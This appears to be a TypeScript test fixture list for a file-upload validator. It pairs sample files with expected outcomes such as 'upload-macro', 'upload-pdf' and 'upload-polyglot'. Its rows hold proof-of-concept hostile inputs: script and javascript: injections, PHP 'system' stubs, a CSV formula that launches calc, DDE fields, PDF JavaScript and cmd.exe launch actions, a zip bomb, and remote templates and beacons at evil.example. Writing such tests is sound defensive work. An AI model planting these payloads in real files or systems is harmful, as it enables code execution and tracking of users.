import {
  joined,
  mp4,
  mp4Place,
  odf,
  ooxml,
  pdf,
  pdfStream,
  photo,
  type Relation,
  raw,
  rels,
  xmpPlace,
  zip,
} from './upload-files.ts';

/** A fixture: its name, the code of its refusal or `ok`, its content. */
export type Row = readonly [name: string, code: string, file: string | Uint8Array];

const jpeg = await photo('jpeg');
const png = await photo('png');
const docx = ooxml('docx');

const wide = Uint8Array.from(png);
new DataView(wide.buffer).setUint32(16, 60_000);
new DataView(wide.buffer).setUint32(20, 60_000);
// The size of the first file, in its head and in the archive's directory.
const bomb = Uint8Array.from(docx);
new DataView(bomb.buffer).setUint32(22, 200_000_000, true);
new DataView(bomb.buffer).setUint32(Buffer.from(docx).indexOf('PK\x01\x02') + 24, 200_000_000, true);

const page = '<!doctype html><script>alert(1)</script>';
const docxWith = (name: string, file: string | Uint8Array = 'а') => ooxml('docx', { parts: { [name]: file } });
const docxTo = (...rows: Relation[]) => docxWith('word/_rels/document.xml.rels', rels(...rows));
const workbook = 'word/embeddings/Microsoft_Excel_Sheet1.xlsx';
const hostile = 'https://evil.example';

export const files: readonly Row[] = [
  ['foto.jpg', 'ok', jpeg],
  ['foto-na-boku.jpeg', 'ok', await photo('jpeg', { orientation: 6 })],
  ['shema.png', 'ok', png],
  ['kartinka.webp', 'ok', await photo('webp')],
  ['list.pdf', 'ok', pdf(['<< /Type /Annot /A << /S /URI /URI (https://example.org/) >> >>'])],
  ['list-szhatyj.pdf', 'ok', pdf([pdfStream('3 0 << /Type /Page >>')])],
  [
    'plan.docx',
    'ok',
    docxTo(['hyperlink', 'https://a.example/', true], ['attachedTemplate', 'file:///C:/a.dotm', true]),
  ],
  ['plan-s-diagrammoj.docx', 'ok', docxWith(workbook, ooxml('xlsx'))],
  ['ocenki.xlsx', 'ok', ooxml('xlsx')],
  ['pokaz.pptx', 'ok', ooxml('pptx')],
  ['plan.odt', 'ok', odf('text', { body: '<office:scripts/><draw:image xlink:href="Pictures/1.png"/>' })],
  ['ocenki.ods', 'ok', odf('spreadsheet')],
  ['pokaz.odp', 'ok', odf('presentation')],
  ['zapis.mp3', 'ok', joined(raw('ID3\x03\0\0\0\0\0\x0a'), new Uint8Array(10), raw('\xff\xfb\x90\x64'))],
  ['rolik.mp4', 'ok', mp4()],
  ['rolik.webm', 'ok', joined(raw('\x1a\x45\xdf\xa3\x87\x42\x82\x84'), 'webm')],
  ['zametka.txt', 'ok', 'Прочитать вслух: <5 минут, «{группа}».\n'],

  ['pusto.jpg', 'upload-empty', ''],
  ['Фото урока.jpg', 'upload-name', jpeg],
  ['foto.php.jpg', 'upload-name', jpeg],
  ['FOTO-2.JPG', 'upload-name', jpeg],
  ['bez-okonchaniya', 'upload-name', jpeg],
  ['stranica.html', 'upload-kind', page],
  ['stranica.txt', 'upload-kind', '<html><body onload="alert(1)"></body></html>'],
  ['stranica.jpg', 'upload-kind', page],
  ['kod.js', 'upload-extension', 'alert(1)\n'],
  ['kod.php', 'upload-kind', '<?php system("ls");'],
  ['programma.exe', 'upload-kind', raw('MZ\x90\0\x03\0')],
  ['programma.pdf', 'upload-kind', raw('\x7fELF\x02\x01\x01')],
  ['arhiv.zip', 'upload-kind', zip({ 'a.txt': 'а' })],
  ['arhiv.docx', 'upload-kind', zip({ 'a.txt': 'а' })],
  ['staryj.doc', 'upload-kind', raw('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1')],
  ['kartinka.gif', 'upload-kind', raw('GIF89a\x01\0\x01\0')],
  ['foto.heic', 'upload-kind', raw('\0\0\0\x18ftypheic\0\0\0\0mif1heic')],
  ['shum.txt', 'upload-kind', raw('\x00\x01\x02\xff')],
  ['ne-utf.txt', 'upload-kind', raw('\xcf\xf0\xe8\xe2\xe5\xf2')],
  ['kartinka.jpg', 'upload-extension', png],
  ['ocenki.docx', 'upload-extension', ooxml('xlsx')],

  ['obrezano.jpg', 'upload-broken', jpeg.subarray(0, 300)],
  ['obrezano.png', 'upload-broken', png.subarray(0, 60)],
  ['obrezano.docx', 'upload-broken', docx.subarray(0, 300)],
  ['obrezano.pdf', 'upload-broken', pdf().subarray(0, 80)],
  ['s-pristavkoj.docx', 'upload-broken', joined('PK\x03\x04', docx)],
  ['ogromnaya.png', 'upload-pixels', wide],
  ['bomba.docx', 'upload-bomb', bomb],

  ['s-makrosom.docx', 'upload-macro', docxWith('word/vbaProject.bin')],
  [
    'pereimenovan.docx',
    'upload-macro',
    ooxml('docx', { type: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
  ],
  ['s-makrolistom.xlsx', 'upload-macro', ooxml('xlsx', { parts: { 'xl/macrosheets/sheet1.xml': '<a/>' } })],
  ['s-activex.docx', 'upload-macro', docxWith('word/activeX/activeX1.xml')],
  [
    's-dde.docx',
    'upload-macro',
    ooxml('docx', { body: '<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\a</w:instrText>' }),
  ],
  ['s-makrosom.odt', 'upload-macro', odf('text', { parts: { 'Basic/Standard/Module1.xml': '<a/>' } })],
  ['s-sobytiem.odt', 'upload-macro', odf('text', { body: '<script:event-listener xlink:href="#a"/>' })],
  ['spisok.csv', 'upload-kind', 'имя;балл\nАня;=5\nОля;-4\n'],
  ['s-komandoj.csv', 'upload-kind', "имя;балл\nАня;=cmd|'/c calc'!A1\n"],
  ['s-obektom.docx', 'upload-embedded', docxWith('word/embeddings/oleObject1.bin')],
  ['s-vlozheniem.docx', 'upload-embedded', docxWith(workbook, ooxml('xlsx', { parts: { 'xl/vbaProject.bin': 'а' } }))],
  ['s-shablonom.docx', 'upload-external', docxTo(['attachedTemplate', `${hostile}/a.dotm`, true])],
  ['s-setevym-shablonom.docx', 'upload-external', docxTo(['attachedTemplate', '\\\\evil.example\\a.dotm', true])],
  ['s-mayachkom.docx', 'upload-external', docxTo(['image', `${hostile}/pixel.png`, true])],
  ['so-ssylkoj.docx', 'upload-external', docxTo(['hyperlink', 'javascript:alert(1)', true])],
  ['s-mayachkom.odt', 'upload-external', odf('text', { body: `<draw:image xlink:href="${hostile}/a.png"/>` })],
  ['pod-parolem.odt', 'upload-locked', odf('text', { manifest: '<manifest:encryption-data/>' })],

  ['s-kodom.pdf', 'upload-pdf', pdf(['<< /S /JavaScript /JS (app.alert(1)) >>'])],
  ['s-pryatkami.pdf', 'upload-pdf', pdf(['<< /S /J#61va#53cript /J#53 5 0 R >>'])],
  ['so-szhatym-kodom.pdf', 'upload-pdf', pdf([pdfStream('3 0 << /S /JavaScript /JS (app.alert(1)) >>')])],
  ['s-zapuskom.pdf', 'upload-pdf', pdf(['<< /S /Launch /F (cmd.exe) >>'])],
  ['s-vlozheniem.pdf', 'upload-pdf', pdf([pdfStream('virus', '/Type /EmbeddedFile /Filter /FlateDecode')])],
  ['s-neobychnym.pdf', 'upload-pdf', pdf([pdfStream('3 0', '/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode]')])],
  ['pod-parolem.pdf', 'upload-locked', pdf([], '/Encrypt 3 0 R')],

  ['s-arhivom.jpg', 'upload-polyglot', joined(jpeg, zip({ 'a.txt': 'а' }))],
  ['s-arhivom.pdf', 'upload-polyglot', joined(pdf(), zip({ 'a.txt': 'а' }))],
  ['s-kodom.jpg', 'upload-polyglot', joined(jpeg.subarray(0, 2), raw('\xff\xfe\0\x2a'), page, jpeg.subarray(2))],
  ['s-php.png', 'upload-polyglot', joined(png, '<?php system("ls");')],
  ['s-dovodkom.jpg', 'upload-tail', joined(jpeg, jpeg)],

  ['s-mestom.jpg', 'upload-location', await photo('jpeg', { located: true, orientation: 6 })],
  ['s-mestom.png', 'upload-location', await photo('png', { located: true })],
  ['s-mestom.webp', 'upload-location', await photo('webp', { located: true })],
  ['s-mestom-xmp.jpg', 'upload-location', await photo('jpeg', { xmp: xmpPlace })],
  ['s-mestom-xmp.png', 'upload-location', await photo('png', { xmp: xmpPlace })],
  ['s-mestom.mp4', 'upload-location', mp4(mp4Place)],
];
